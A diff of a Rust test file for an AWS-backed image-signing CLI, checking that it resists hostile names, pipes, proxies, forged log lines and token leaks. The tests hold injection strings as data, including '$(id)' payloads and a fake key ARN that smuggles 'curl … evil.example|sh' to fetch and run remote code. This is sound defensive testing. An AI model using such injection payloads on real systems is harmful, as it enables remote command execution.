@@ -1,5 +1,4 @@
-//! What surrounds a run may be hostile or odd: who names things, what a file really is, where a proxy
-//! stands, what a server writes into a log.
+//! Hostile or odd surroundings of a run: names, files that are devices or pipes, proxies, text of servers in the log.
 
 use std::io::{Read as _, Write as _};
 use std::net::TcpListener;
@@ -9,7 +8,7 @@ use std::process::Command;
 use rustix::fs::{CWD, FileType, Mode};
 use serde_json::Value;
 
-use crate::support::workshop::{EVERYTHING, ROLE, ROLE_ARN, SIGN, Workshop, trust};
+use crate::support::aws_fixture::{AwsFixture, EVERYTHING, ROLE, ROLE_ARN, SIGN, trust};
 use s3lo_test_servers::aws::{Key, Subject, kms_error};
 use s3lo_test_servers::s3::s3_error;
 
@@ -40,11 +39,11 @@ fn printed(help: &str, start: &str) -> String {
 }
 
 #[test]
-fn a_command_to_paste_is_one_whoever_named_the_things_in_it() {
+fn a_command_to_paste_quotes_hostile_names() {
     let hostile = "x;touch${IFS}pwned|`id`$(id)'";
-    let shop = Workshop::in_github(EVERYTHING);
+    let aws = AwsFixture::in_github(EVERYTHING);
     let line = format!("{SIGN} --role-arn {ROLE_ARN} -o json --audience {hostile}");
-    let json = shop.s3lo(&line).ends_with(2).json();
+    let json = aws.s3lo(&line).ends_with(2).json();
     let help = json["error"]["help"].as_str().unwrap();
     let command = printed(help, "aws iam add-client-id-to-open-id-connect-provider");
     assert_eq!(words(&command).last().map(String::as_str), Some(hostile));
@@ -52,8 +51,8 @@ fn a_command_to_paste_is_one_whoever_named_the_things_in_it() {
 
 #[test]
 fn a_key_that_a_server_makes_up_is_not_printed_to_be_pasted() {
-    let shop = Workshop::new();
-    shop.aws.fault(|_| {
+    let aws = AwsFixture::new();
+    aws.server.fault(|_| {
         let key = "arn:aws:kms:us-east-1:111122223333:key/a;curl${IFS}evil.example|sh";
         Some(kms_error(
             400,
@@ -61,7 +60,7 @@ fn a_key_that_a_server_makes_up_is_not_printed_to_be_pasted() {
             &format!("{key} is disabled."),
         ))
     });
-    let json = shop.s3lo(&format!("{SIGN} -o json")).ends_with(2).json();
+    let json = aws.s3lo(&format!("{SIGN} -o json")).ends_with(2).json();
     let help = json["error"]["help"].as_str().unwrap();
     assert!(
         help.ends_with("`aws kms enable-key --key-id KEY-ID`"),
@@ -71,7 +70,7 @@ fn a_key_that_a_server_makes_up_is_not_printed_to_be_pasted() {
 
 #[test]
 fn a_role_is_named_in_the_alphabet_of_roles() {
-    let shop = Workshop::in_github(EVERYTHING);
+    let aws = AwsFixture::in_github(EVERYTHING);
     for name in ["$(id)", "a;b", "", "a/", "a b"] {
         let arn = format!("arn:aws:iam::111122223333:role/{name}");
         let line = [
@@ -82,13 +81,13 @@ fn a_role_is_named_in_the_alphabet_of_roles() {
             "--role-arn",
             &arn,
         ];
-        shop.desk.run(&line).ends_with(2);
+        aws.sandbox.run(&line).ends_with(2);
     }
-    assert!(shop.aws.calls().is_empty());
+    assert!(aws.server.calls().is_empty());
 }
 
 #[test]
-fn a_pipe_that_nobody_writes_to_does_not_hold_up_the_run() {
+fn a_silent_pipe_does_not_block_the_run() {
     for variable in [
         "AWS_CA_BUNDLE",
         "AWS_CONFIG_FILE",
@@ -96,27 +95,27 @@ fn a_pipe_that_nobody_writes_to_does_not_hold_up_the_run() {
         "AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE",
         "SSL_CERT_FILE",
     ] {
-        let mut shop = Workshop::new();
-        rustix::fs::mknodat(CWD, shop.desk.file("pipe"), FileType::Fifo, Mode::RWXU, 0).unwrap();
-        shop.desk.set(variable, "pipe");
-        let json = shop.s3lo(&format!("{SIGN} -o json")).ends_with(2).json();
+        let mut aws = AwsFixture::new();
+        rustix::fs::mknodat(CWD, aws.sandbox.file("pipe"), FileType::Fifo, Mode::RWXU, 0).unwrap();
+        aws.sandbox.set(variable, "pipe");
+        let json = aws.s3lo(&format!("{SIGN} -o json")).ends_with(2).json();
         assert_eq!(code(&json), "configuration", "{variable}");
     }
     // A token may well come from a pipe, which is waited for as long as the run may take.
-    let shop = Workshop::in_github(EVERYTHING);
-    rustix::fs::mknodat(CWD, shop.desk.file("pipe"), FileType::Fifo, Mode::RWXU, 0).unwrap();
+    let aws = AwsFixture::in_github(EVERYTHING);
+    rustix::fs::mknodat(CWD, aws.sandbox.file("pipe"), FileType::Fifo, Mode::RWXU, 0).unwrap();
     let role = format!("--role-arn {ROLE_ARN} --web-identity-token-file pipe");
-    let json = shop.s3lo(&format!("{SIGN} {role} --timeout 500ms -o json"));
+    let json = aws.s3lo(&format!("{SIGN} {role} --timeout 500ms -o json"));
     assert_eq!(code(&json.ends_with(2).json()), "timed_out");
 }
 
 #[test]
 fn every_credentials_are_checked_against_the_allowed_accounts() {
-    let mut shop = Workshop::new();
-    let own = shop.aws.user("own", EVERYTHING);
-    let log = shop.desk.file("log");
+    let mut aws = AwsFixture::new();
+    let own = aws.server.user("own", EVERYTHING);
+    let log = aws.sandbox.file("log");
     // Credentials that end at once are asked for again before every call; the second ones are unknown.
-    shop.desk.write(
+    aws.sandbox.write(
         "process",
         format!(
             r#"#!/bin/sh
@@ -130,23 +129,23 @@ echo '{{"Version": 1, "AccessKeyId": "'$id'", "SecretAccessKey": "{secret}", "Ex
             secret = own.secret_access_key,
         ),
     );
-    let process = shop.desk.file("process");
+    let process = aws.sandbox.file("process");
     std::fs::set_permissions(&process, std::fs::Permissions::from_mode(0o700)).unwrap();
     let config = format!("[default]\ncredential_process = {}\n", process.display());
-    shop.desk.write("config", config);
+    aws.sandbox.write("config", config);
     for name in ["AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY"] {
-        shop.desk.unset(name);
+        aws.sandbox.unset(name);
     }
-    shop.desk.set("AWS_CONFIG_FILE", "config");
-    shop.desk.set("PATH", "/usr/bin:/bin");
+    aws.sandbox.set("AWS_CONFIG_FILE", "config");
+    aws.sandbox.set("PATH", "/usr/bin:/bin");
     let line = format!("{SIGN} --allowed-account 111122223333 -o json");
-    shop.s3lo(&line);
-    let asked = shop.count("GetCallerIdentity");
+    aws.s3lo(&line);
+    let asked = aws.count("GetCallerIdentity");
     let given = std::fs::read_to_string(&log).unwrap().lines().count();
     assert!(given > 1, "they were fetched once");
     assert_eq!(asked, given, "each credentials are asked about");
     // And what belongs to nobody is not used.
-    for call in shop.aws.calls() {
+    for call in aws.server.calls() {
         let authorization = call
             .headers
             .get("authorization")
@@ -163,36 +162,36 @@ echo '{{"Version": 1, "AccessKeyId": "'$id'", "SecretAccessKey": "{secret}", "Ex
 
 #[test]
 fn a_key_of_another_account_does_not_hear_of_us() {
-    let shop = Workshop::new();
+    let aws = AwsFixture::new();
     let key =
         "awskms:///arn:aws:kms:us-east-1:999999999999:key/1234abcd-12ab-34cd-56ef-1234567890ab";
     for command in ["sign", "verify"] {
         let line = format!("{command} s3://my-bucket/myapp:v1.0 --key {key}");
-        let run = shop.s3lo(&format!("{line} --allowed-account 111122223333 -o json"));
+        let run = aws.s3lo(&format!("{line} --allowed-account 111122223333 -o json"));
         assert_eq!(code(&run.ends_with(2).json()), "account_not_allowed");
     }
-    assert_eq!(shop.actions(), Vec::<String>::new());
+    assert_eq!(aws.actions(), Vec::<String>::new());
 }
 
 #[test]
 fn role_and_token_of_kubernetes_belong_together() {
-    let mut shop = Workshop::in_github(EVERYTHING);
+    let mut aws = AwsFixture::in_github(EVERYTHING);
     let subject = "system:serviceaccount:ci:signer";
-    let token = shop.aws.identity_token(subject, "sts.amazonaws.com", 600);
-    shop.desk.write("token", token);
+    let token = aws.server.identity_token(subject, "sts.amazonaws.com", 600);
+    aws.sandbox.write("token", token);
     let mut trust = trust();
     trust.subject = Subject::Equals(subject.to_owned());
-    shop.aws.role(ROLE, &trust, EVERYTHING);
-    shop.desk.set("AWS_ROLE_ARN", ROLE_ARN);
-    shop.desk.set("AWS_WEB_IDENTITY_TOKEN_FILE", "token");
+    aws.server.role(ROLE, &trust, EVERYTHING);
+    aws.sandbox.set("AWS_ROLE_ARN", ROLE_ARN);
+    aws.sandbox.set("AWS_WEB_IDENTITY_TOKEN_FILE", "token");
     // The job could ask GitHub as well, for a token that this role does not trust.
-    shop.s3lo(SIGN).ends_with(0);
-    assert_eq!(shop.count("token"), 0);
+    aws.s3lo(SIGN).ends_with(0);
+    assert_eq!(aws.count("token"), 0);
     // Who names a profile does not get the role.
-    shop.desk.set("AWS_PROFILE", "missing");
-    let json = shop.s3lo(&format!("{SIGN} -o json")).ends_with(2).json();
+    aws.sandbox.set("AWS_PROFILE", "missing");
+    let json = aws.s3lo(&format!("{SIGN} -o json")).ends_with(2).json();
     assert_eq!(code(&json), "no_credentials");
-    assert_eq!(shop.count("AssumeRoleWithWebIdentity"), 1);
+    assert_eq!(aws.count("AssumeRoleWithWebIdentity"), 1);
 }
 
 /// A proxy that writes down what it is asked, and answers nothing.
@@ -217,30 +216,30 @@ fn eavesdropper() -> (String, std::sync::Arc<std::sync::Mutex<Vec<String>>>) {
 #[test]
 fn credentials_of_this_host_pass_no_proxy() {
     let (proxy, heard) = eavesdropper();
-    let mut shop = Workshop::in_github(EVERYTHING);
-    shop.desk.set("HTTP_PROXY", &proxy);
-    shop.s3lo(&format!("{SIGN} --role-arn {ROLE_ARN}"))
+    let mut aws = AwsFixture::in_github(EVERYTHING);
+    aws.sandbox.set("HTTP_PROXY", &proxy);
+    aws.s3lo(&format!("{SIGN} --role-arn {ROLE_ARN}"))
         .ends_with(0);
     // A container's credentials: nobody answers there, and no proxy is asked in its place.
-    let mut shop = Workshop::without_credentials(
+    let mut aws = AwsFixture::without_credentials(
         s3lo_test_servers::aws::AwsServer::start(),
         Key::of_vector("p256-pkcs8"),
     );
-    shop.desk.set("HTTP_PROXY", &proxy);
-    shop.desk
+    aws.sandbox.set("HTTP_PROXY", &proxy);
+    aws.sandbox
         .set("AWS_CONTAINER_CREDENTIALS_RELATIVE_URI", "/v2/credentials");
-    shop.s3lo(&format!("{SIGN} --timeout 1s")).ends_with(2);
+    aws.s3lo(&format!("{SIGN} --timeout 1s")).ends_with(2);
     assert_eq!(*heard.lock().unwrap(), Vec::<String>::new());
 }
 
 #[test]
 fn a_server_writes_no_lines_of_its_own_into_the_log() {
-    let shop = Workshop::new();
-    shop.aws.fault(|_| {
+    let aws = AwsFixture::new();
+    aws.server.fault(|_| {
         let message = "oops\\n::error file=a::forged\\u202e";
         Some(kms_error(500, "KMSInternalException", message).header("x-odd", "a"))
     });
-    let run = shop.s3lo(&format!("{SIGN} -v")).ends_with(2);
+    let run = aws.s3lo(&format!("{SIGN} -v")).ends_with(2);
     let odd: Vec<_> = run
         .err
         .lines()
@@ -253,44 +252,44 @@ fn a_server_writes_no_lines_of_its_own_into_the_log() {
 #[test]
 fn an_identity_token_travels_by_tls_or_stays_on_this_machine() {
     for variable in ["AWS_ENDPOINT_URL", "AWS_ENDPOINT_URL_STS"] {
-        let mut shop = Workshop::in_github(EVERYTHING);
-        shop.desk.unset("AWS_ENDPOINT_URL_STS");
-        shop.desk.set(variable, "http://minio.invalid:9000");
+        let mut aws = AwsFixture::in_github(EVERYTHING);
+        aws.sandbox.unset("AWS_ENDPOINT_URL_STS");
+        aws.sandbox.set(variable, "http://minio.invalid:9000");
         let line = format!("{SIGN} --role-arn {ROLE_ARN} -o json");
-        let json = shop.s3lo(&line).ends_with(2).json();
+        let json = aws.s3lo(&line).ends_with(2).json();
         assert_eq!(code(&json), "configuration");
-        assert_eq!(shop.count("AssumeRoleWithWebIdentity"), 0);
+        assert_eq!(aws.count("AssumeRoleWithWebIdentity"), 0);
     }
-    let mut shop = Workshop::in_github(EVERYTHING);
-    shop.desk.unset("AWS_ENDPOINT_URL_STS");
-    shop.desk.set("AWS_CONFIG_FILE", "config");
+    let mut aws = AwsFixture::in_github(EVERYTHING);
+    aws.sandbox.unset("AWS_ENDPOINT_URL_STS");
+    aws.sandbox.set("AWS_CONFIG_FILE", "config");
     let line = format!("{SIGN} --role-arn {ROLE_ARN} -o json");
     for config in [
         "[default]\nendpoint_url = http://minio.invalid:9000\n",
         "[default]\nservices = here\n[services here]\nsts =\n  endpoint_url = http://sts.invalid\n",
     ] {
-        shop.desk.write("config", config);
-        assert_eq!(code(&shop.s3lo(&line).ends_with(2).json()), "configuration");
-        assert_eq!(shop.count("AssumeRoleWithWebIdentity"), 0);
+        aws.sandbox.write("config", config);
+        assert_eq!(code(&aws.s3lo(&line).ends_with(2).json()), "configuration");
+        assert_eq!(aws.count("AssumeRoleWithWebIdentity"), 0);
     }
 }
 
 #[test]
 fn an_agent_that_floods_is_cut_short() {
-    let mut shop = Workshop::in_github(EVERYTHING);
+    let mut aws = AwsFixture::in_github(EVERYTHING);
     for name in ["GITHUB_ACTIONS", "ACTIONS_ID_TOKEN_REQUEST_URL"] {
-        shop.desk.unset(name);
+        aws.sandbox.unset(name);
     }
-    shop.desk
+    aws.sandbox
         .write("bin/buildkite-agent", "#!/bin/sh\nexec yes\n");
-    let agent = shop.desk.file("bin/buildkite-agent");
+    let agent = aws.sandbox.file("bin/buildkite-agent");
     std::fs::set_permissions(agent, std::fs::Permissions::from_mode(0o700)).unwrap();
-    let bin = shop.desk.file("bin");
-    shop.desk
+    let bin = aws.sandbox.file("bin");
+    aws.sandbox
         .set("PATH", &format!("{}:/usr/bin:/bin", bin.display()));
-    shop.desk.set("BUILDKITE", "true");
+    aws.sandbox.set("BUILDKITE", "true");
     let line = format!("{SIGN} --role-arn {ROLE_ARN} -o json");
-    let json = shop.desk.s3lo_within(64, &line).ends_with(2).json();
+    let json = aws.sandbox.s3lo_within(64, &line).ends_with(2).json();
     assert_eq!(code(&json), "no_identity_token");
     let message = json["error"]["message"].as_str().unwrap();
     assert!(message.ends_with("more than a token"), "{message}");
@@ -298,9 +297,9 @@ fn an_agent_that_floods_is_cut_short() {
 
 #[test]
 fn a_token_that_is_typed_is_not_repeated() {
-    let shop = Workshop::in_github(EVERYTHING);
-    let token = shop
-        .aws
+    let aws = AwsFixture::in_github(EVERYTHING);
+    let token = aws
+        .server
         .identity_token("repo:acme/app", "sts.amazonaws.com", 600);
     for flag in [
         "--role-arn",
@@ -315,7 +314,7 @@ fn a_token_that_is_typed_is_not_repeated() {
             format!("{SIGN} {flag} {token}"),
             format!("{SIGN} {flag}={token}"),
         ] {
-            let run = shop.s3lo(&line).ends_with(2);
+            let run = aws.s3lo(&line).ends_with(2);
             let signature = token.rsplit('.').next().unwrap();
             assert!(!run.err.contains(signature), "{flag}: {}", run.err);
         }
@@ -324,17 +323,17 @@ fn a_token_that_is_typed_is_not_repeated() {
 
 #[test]
 fn a_token_in_the_place_of_its_file_is_not_repeated() {
-    let mut shop = Workshop::in_github(EVERYTHING);
-    let token = shop
-        .aws
+    let mut aws = AwsFixture::in_github(EVERYTHING);
+    let token = aws
+        .server
         .identity_token("repo:acme/app", "sts.amazonaws.com", 600);
     for name in ["GITHUB_ACTIONS", "ACTIONS_ID_TOKEN_REQUEST_URL"] {
-        shop.desk.unset(name);
+        aws.sandbox.unset(name);
     }
-    shop.desk.set("AWS_WEB_IDENTITY_TOKEN_FILE", &token);
+    aws.sandbox.set("AWS_WEB_IDENTITY_TOKEN_FILE", &token);
     for role in [format!("--role-arn {ROLE_ARN}"), String::new()] {
-        shop.desk.set("AWS_ROLE_ARN", ROLE_ARN);
-        let run = shop.s3lo(&format!("{SIGN} {role} -v")).ends_with(2);
+        aws.sandbox.set("AWS_ROLE_ARN", ROLE_ARN);
+        let run = aws.s3lo(&format!("{SIGN} {role} -v")).ends_with(2);
         assert!(
             !run.err.contains(token.rsplit('.').next().unwrap()),
             "{}",
@@ -344,17 +343,17 @@ fn a_token_in_the_place_of_its_file_is_not_repeated() {
 }
 
 #[test]
-fn where_there_are_no_certificates_the_error_says_so() {
-    let mut shop = Workshop::without_credentials(
+fn missing_system_certificates_are_reported() {
+    let mut aws = AwsFixture::without_credentials(
         s3lo_test_servers::aws::AwsServer::start_tls(),
         Key::of_vector("p256-pkcs8"),
     );
-    let user = shop.aws.user("dev", EVERYTHING);
-    shop.set(&user.environment());
-    shop.desk.write("empty.pem", "");
-    shop.desk.set("SSL_CERT_FILE", "empty.pem");
-    shop.desk.set("AWS_MAX_ATTEMPTS", "1");
-    let json = shop.s3lo(&format!("{SIGN} -o json")).ends_with(2).json();
+    let user = aws.server.user("dev", EVERYTHING);
+    aws.set(&user.environment());
+    aws.sandbox.write("empty.pem", "");
+    aws.sandbox.set("SSL_CERT_FILE", "empty.pem");
+    aws.sandbox.set("AWS_MAX_ATTEMPTS", "1");
+    let json = aws.s3lo(&format!("{SIGN} -o json")).ends_with(2).json();
     assert_eq!(code(&json), "unreachable");
     let help = json["error"]["help"].as_str().unwrap();
     assert!(help.contains("SSL_CERT_FILE"), "{help}");
@@ -362,13 +361,13 @@ fn where_there_are_no_certificates_the_error_says_so() {
 
 #[test]
 fn a_refused_write_is_allowed_for_signatures_alone() {
-    let shop = Workshop::new();
-    shop.s3.fault(|request| {
+    let aws = AwsFixture::new();
+    aws.s3.fault(|request| {
         let arn = "arn:aws-us-gov:s3:::my-bucket/manifests/myapp";
         let message = format!("not authorized to perform: s3:PutObject on resource: {arn}");
         (request.method == "PUT").then(|| s3_error(403, "AccessDenied", &message))
     });
-    let json = shop.s3lo(&format!("{SIGN} -o json")).ends_with(2).json();
+    let json = aws.s3lo(&format!("{SIGN} -o json")).ends_with(2).json();
     let help = json["error"]["help"].as_str().unwrap();
     let resource = r#""Resource": "arn:aws-us-gov:s3:::my-bucket/manifests/*/signatures/*""#;
     assert!(help.contains(resource), "{help}");
@@ -376,15 +375,15 @@ fn a_refused_write_is_allowed_for_signatures_alone() {
 
 #[test]
 fn a_flag_that_would_guard_nothing_is_refused() {
-    let shop = Workshop::new();
-    shop.desk.push("myapp", "v1.0", crate::support::MANIFEST);
+    let aws = AwsFixture::new();
+    aws.sandbox.push("myapp", "v1.0", crate::support::MANIFEST);
     let line = "verify local://./store/myapp:v1.0 --key keys/cosign.pub";
     for flag in [
         "--allowed-account 111122223333".to_owned(),
         "--expected-bucket-owner 111122223333".to_owned(),
         format!("--role-arn {ROLE_ARN}"),
     ] {
-        let run = shop.s3lo(&format!("{line} {flag} -o json")).ends_with(2);
+        let run = aws.s3lo(&format!("{line} {flag} -o json")).ends_with(2);
         assert_eq!(code(&run.json()), "usage", "{flag}");
     }
 }
